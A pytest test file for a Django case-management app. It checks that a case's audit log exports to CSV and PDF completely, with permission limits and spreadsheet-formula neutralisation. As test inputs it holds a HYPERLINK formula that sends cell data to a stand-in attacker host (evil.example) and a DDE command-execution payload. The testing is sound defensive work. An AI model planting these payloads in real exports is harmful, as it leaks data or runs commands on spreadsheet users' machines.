"""A case's access and change log as CSV and PDF: complete, formula-safe, permission-limited, itself logged."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from cspr import audit, services
from cspr.documents import pdf_text
from cspr.exports import csv_bytes, safe_cell
from cspr.models import AccessLog
from cspr.tenancy import scope, scopes_disabled

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def case(partnership_a, bo_a, chair_a):
    with scope(partnership_a):
        case = services.open_case(
            partnership=partnership_a,
            child_pseudonym="Child Q",
            aware_of_incident=date(2026, 12, 18),
            referral_received=date(2026, 12, 18),
            by=bo_a,
        )
        audit.record(case=case, code="case.clock_paused", by=bo_a, reason=FORMULA)
        audit.log_access(case=case, user=chair_a, path="/seen/by/the/chair/")
        case.child_pseudonym = "Child R"
        case._change_reason = "Renamed"
        case.save()
    return case


def url(case, name: str) -> str:
    return reverse(name, kwargs={"partnership_slug": case.partnership.slug, "case_id": case.public_id})


def rows(response) -> list[list[str]]:
    body = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_the_csv_holds_every_change_view_and_record_edit(client, bo_a, case):
    client.force_login(bo_a)
    response = client.get(url(case, "case_audit_csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{case.reference}-audit-log.csv"'
    header, *entries = rows(response)
    assert header == ["When", "Kind", "What", "Who", "Username", "Details"]
    kinds_and_whats = {(e[1], e[2]) for e in entries}
    assert ("Change", "Case opened") in kinds_and_whats
    assert ("Change", "Clocks paused") in kinds_and_whats
    assert ("Access", "Viewed") in kinds_and_whats
    assert ("Record edit", "Case record created") in kinds_and_whats
    edit = next(e for e in entries if e[2] == "Case record changed")
    assert "child_pseudonym: Child Q → Child R" in edit[5]
    chair_view = next(e for e in entries if e[5] == "/seen/by/the/chair/")
    assert chair_view[4] == "chair_a"
    assert [e[0] for e in entries] == sorted(e[0] for e in entries)  # oldest first


def test_a_formula_typed_as_a_name_cannot_run_in_a_spreadsheet(client, bo_a, chair_a, case):
    chair_a.first_name = FORMULA
    chair_a.save()
    client.force_login(bo_a)
    entries = rows(client.get(url(case, "case_audit_csv")))[1:]
    chair_view = next(e for e in entries if e[5] == "/seen/by/the/chair/")
    assert chair_view[3] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for entry in entries for cell in entry)


def test_the_export_is_itself_recorded_as_an_access(client, reader_a, case):
    client.force_login(reader_a)
    client.get(url(case, "case_audit_csv"))
    client.get(url(case, "case_audit_pdf"))
    with scopes_disabled():
        paths = list(AccessLog.objects.filter(case=case, user=reader_a).values_list("path", flat=True))
    assert sorted(paths) == sorted([url(case, "case_audit_csv"), url(case, "case_audit_pdf")])


def test_the_pdf_reads_as_the_log(client, reader_a, case):
    client.force_login(reader_a)
    response = client.get(url(case, "case_audit_pdf"))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = " ".join(pdf_text(response.content).split())  # a narrow column may wrap a label
    for expected in (
        "Access and change log",
        case.reference,
        "Case opened",
        "Clocks paused",
        "Viewed",
        "OFFICIAL",
    ):
        assert expected in text, expected
    assert "/seen/by/the/chair/" in text


@pytest.mark.parametrize("role", ["chair_a", "agency_contact_a"])
def test_it_requires_the_export_permission(client, case, role, request):
    client.force_login(request.getfixturevalue(role))
    assert client.get(url(case, "case_audit_csv")).status_code == 403
    assert client.get(url(case, "case_audit_pdf")).status_code == 403


def test_it_hides_other_partnership(client, bo_b, case):
    client.force_login(bo_b)
    assert client.get(url(case, "case_audit_csv")).status_code == 404


def test_the_history_page_links_to_the_downloads_for_those_allowed(client, bo_a, chair_a, case):
    client.force_login(bo_a)
    page = client.get(url(case, "case_history")).content.decode()
    assert url(case, "case_audit_csv") in page and url(case, "case_audit_pdf") in page
    client.force_login(chair_a)
    page = client.get(url(case, "case_history")).content.decode()
    assert url(case, "case_audit_csv") not in page


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("Child A", "Child A"),
        ("", ""),
        (None, ""),
        (-2, -2),
        (3.5, 3.5),
        (date(2026, 1, 2), date(2026, 1, 2)),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_bytes_neutralises_every_cell_and_reads_back():
    body = csv_bytes(["=Header"], [["=cmd|' /C calc'!A0", "plain"]])
    assert body.startswith("\ufeff".encode())
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
        ["'=Header"],
        ["'=cmd|' /C calc'!A0", "plain"],
    ]
